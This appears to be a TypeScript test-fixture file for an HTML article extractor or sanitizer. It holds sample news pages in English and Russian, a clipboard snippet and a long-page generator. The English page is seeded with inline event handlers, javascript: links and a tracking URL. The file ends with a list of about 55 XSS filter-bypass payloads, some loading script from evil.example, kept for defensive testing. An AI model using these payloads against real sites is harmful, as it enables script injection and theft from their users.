/** Pages as sites send them, in our own words: what is around an article, and what should never run. */

export const NEWS_PARAGRAPHS = [
	'The meeting that was to prepare the summit has been put off, two officials said on Tuesday, and nobody would name a new date for it.',
	'The foreign ministers spoke by telephone the day before. What each side read out afterwards differed so much that diplomats doubted they had heard the same call.',
	'One of the officials said the expectations of the two sides were “some way apart”, and that it would make little sense to travel before they came closer.',
	'The host city said its halls remained booked. Hotels near the river reported that delegations had neither confirmed nor cancelled.',
	'Analysts were divided over whether a delay of this kind is a bargaining move or the beginning of a quiet end.'
];

const PARAGRAPHS = NEWS_PARAGRAPHS.map(
	(text) => `<p class="body-text" style="color:red">${text}</p>`
);

export const NEWS_PAGE = `<!DOCTYPE html>
<html lang="en-GB">
<head>
<meta charset="utf-8">
<title>Meeting of ministers put off | The River Post</title>
<link rel="canonical" href="/world/ministers-put-off?utm_campaign=feed">
<meta property="og:title" content="Meeting of ministers put off">
<meta property="og:site_name" content="The River Post">
<meta property="og:description" content="Nobody names a new date.">
<script type="application/ld+json">{"@context":"https://schema.org","@graph":[
 {"@type":"WebSite","name":"The River Post"},
 {"@type":"NewsArticle","headline":"Meeting of ministers put off &amp; no new date","datePublished":"2025-10-21T14:05:00+02:00",
  "author":[{"@type":"Person","name":"Ann Lee"},{"@type":"Person","name":"Piet van Dam"}],"publisher":{"@type":"Organization","name":"The River Post"}}]}</script>
<style>body { background: url(https://spy.example/x.png) }</style>
<script>window.ran = true</script>
</head>
<body onload="alert(1)">
<nav><ul><li><a href="/">Home</a></li><li><a href="/world">World</a></li></ul></nav>
<header><div class="logo">The River Post</div><div class="cookie-banner">We use cookies.<button>Accept</button></div></header>
<main><article>
<h1>Meeting of ministers put off &amp; no new date</h1>
<p class="byline">By Ann Lee and Piet van Dam</p>
<time datetime="2025-10-21T14:05:00+02:00">21 October 2025</time>
<figure><img src="x.jpg" onerror="alert(1)"><figcaption>The hall by the river</figcaption></figure>
${PARAGRAPHS[0]}
<script>document.write('<p>written by a script</p>')</script>
${PARAGRAPHS[1]}
<h3 onclick="alert(1)">What was said</h3>
${PARAGRAPHS[2]}
<p>The full <a href="/read-out" onmouseover="alert(1)">read-out</a> is short; a <a href="javascript:alert(1)">second link</a> is no link.</p>
<svg onload="alert(1)"><script>alert(2)</script><text>drawn words</text></svg>
<iframe src="https://ads.example/frame"></iframe>
<blockquote>It is not over.</blockquote>
<ul><li>Halls remain booked until the end of the month, the city said.</li><li>Hotels near the river wait for an answer from both delegations.</li></ul>
<table><tr><td><table><tr><td>Rooms booked</td><td>412</td></tr></table></td></tr></table>
${PARAGRAPHS[3]}
${PARAGRAPHS[4]}
</article></main>
<aside><h2>Most read</h2><a href="/cats">Ten cats who look like ministers</a></aside>
<form action="/newsletter"><label>Get our newsletter</label><input name="email"></form>
<footer>© The River Post. All rights reserved.</footer>
</body></html>`;

export const RUSSIAN_PAGE = `<html lang="ru"><head><meta charset="utf-8"><title>Встреча министров отложена — Речной вестник</title>
<meta property="og:site_name" content="Речной вестник"><meta name="author" content="Иван Петров">
<meta property="article:published_time" content="2025-10-21T11:00:00+03:00"></head><body>
<div class="menu"><a href="/">Главная</a></div><article><h1>Встреча министров отложена</h1>
${[
	'Подготовительная встреча отложена, сообщили во вторник два чиновника, и новой даты никто не назвал.',
	'Накануне министры говорили по телефону. Сообщения сторон разошлись так сильно, что дипломаты усомнились, об одном ли разговоре идёт речь.',
	'По словам одного из собеседников, ожидания сторон далеки друг от друга, и ехать раньше времени нет смысла.',
	'Город сообщил, что залы по-прежнему забронированы, а гостиницы ждут подтверждения от делегаций.'
]
	.map((text) => `<p>${text}</p>`)
	.join('\n')}
</article></body></html>`;

/** What the clipboard holds after copying part of a page. */
export const CLIPPING = `<meta charset='utf-8'><h1 style="margin:0">Meeting of ministers put off</h1><div>By Ann Lee</div>
<div><span>21 October 2025</span></div><div>First <b>bold</b> words<br>of the clipping.<div>Then a block in a block.</div>And the rest.</div>`;

/** A long page of `kilobytes` of paragraphs between what usually stands around them. */
export function longPage(kilobytes: number): string {
	const paragraph = `<p>${NEWS_PARAGRAPHS.join(' ')} <a href="/more">More</a></p><div class="ad"><script>ad()</script></div>\n`;
	const card = '<aside class="card"><a href="/x"><h4>Another story altogether</h4></a></aside>\n';
	const size = Math.ceil((kilobytes * 1024) / (paragraph.length + card.length));
	return `<html><head><title>A very long report</title></head><body><nav>Home</nav><article>${(paragraph + card).repeat(size)}</article></body></html>`;
}

/** Ways to get a script past a filter: each with the letters ATTACK in place of what it would run. */
export const ATTACKS = [
	'<script>ATTACK</script>',
	'<ScRiPt src=//evil.example/ATTACK.js></sCrIpT>',
	'<scr<script>ipt>ATTACK</scr</script>ipt>',
	'<img src=x onerror=ATTACK>',
	'<img/src="x"/onerror=ATTACK//',
	'<svg/onload=ATTACK>',
	'<svg><script>ATTACK</script></svg>',
	'<svg><animate onbegin=ATTACK attributeName=x dur=1s>',
	'<math><mtext><table><mglyph><style><img src=x onerror=ATTACK></style></mglyph></table></mtext></math>',
	'<iframe srcdoc="<script>ATTACK</script>"></iframe>',
	'<iframe src="javascript:ATTACK"></iframe>',
	'<iframe><p title="</iframe><img src=x onerror=ATTACK>"></p></iframe>',
	'<object data="data:text/html,<script>ATTACK</script>"></object>',
	'<embed src="javascript:ATTACK">',
	'<a href="javascript:ATTACK">x</a>',
	'<a href=" &#14; javascript:ATTACK">x</a>',
	'<a href="java\tscript:ATTACK">x</a>',
	'<a href="&#x6A;avascript&colon;ATTACK">x</a>',
	'<a href="data:text/html;base64,QVRUQUNL">x</a>',
	'<a href="vbscript:ATTACK">x</a>',
	'<a href="https://ok.example/&quot; onclick=&quot;ATTACK">x</a>',
	'<p style="background:url(javascript:ATTACK)">x</p>',
	'<style>@import "https://evil.example/ATTACK.css";</style>',
	'<link rel=stylesheet href="https://evil.example/ATTACK.css">',
	'<base href="javascript:ATTACK//">',
	'<meta http-equiv="refresh" content="0;url=javascript:ATTACK">',
	'<form action="javascript:ATTACK"><input type=submit></form>',
	'<button formaction="javascript:ATTACK">x</button>',
	'<body onload=ATTACK>',
	'<details open ontoggle=ATTACK>x</details>',
	'<video><source onerror=ATTACK></video>',
	'<noscript><p title="</noscript><img src=x onerror=ATTACK>"></noscript>',
	'<xmp><img src=x onerror=ATTACK></xmp>',
	'<textarea><img src=x onerror=ATTACK></textarea>',
	'<title><img src=x onerror=ATTACK></title>',
	'<template><script>ATTACK</script></template>',
	'<plaintext><script>ATTACK</script>',
	'<noembed><img src=x onerror=ATTACK></noembed>',
	'<!--><img src=x onerror=ATTACK>-->',
	'<![CDATA[<script>ATTACK</script>]]>',
	'<?xml <script>ATTACK</script> ?>',
	'&lt;script&gt;ATTACK&lt;/script&gt;',
	'<p id="x" class="y" onclick="ATTACK">x</p>',
	'<custom-element onclick=ATTACK is=x>y</custom-element>',
	'[x](javascript:ATTACK)',
	'[x](<javascript:ATTACK>)',
	'[x](data:text/html,<script>ATTACK</script>)',
	'![x](javascript:ATTACK "onerror=ATTACK")',
	'![x" onerror="ATTACK](https://ok.example/a.png)',
	'[x](https://ok.example/" onclick="ATTACK)',
	'<javascript:ATTACK>',
	'`<script>ATTACK</script>`',
	'```html\n<script>ATTACK</script>\n```',
	'```"><script>ATTACK</script>\nx\n```',
	'[x]: javascript:ATTACK\n\n[x]'
];
